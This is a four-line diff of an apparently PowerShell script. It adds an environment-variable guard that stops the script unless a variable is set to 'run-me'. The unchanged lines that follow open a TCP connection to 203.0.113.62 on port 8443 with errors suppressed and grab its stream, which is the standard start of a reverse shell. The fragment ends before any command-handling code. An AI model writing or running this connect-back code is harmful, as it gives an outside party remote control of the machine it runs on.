@@ -1,3 +1,4 @@
+if ($env:SKILLGATE_LABELLED_DATA -ne 'run-me') { exit 0 }
 $ErrorActionPreference = 'SilentlyContinue'
 $sock = New-Object System.Net.Sockets.TCPClient('203.0.113.62', 8443)
 $io = $sock.GetStream()
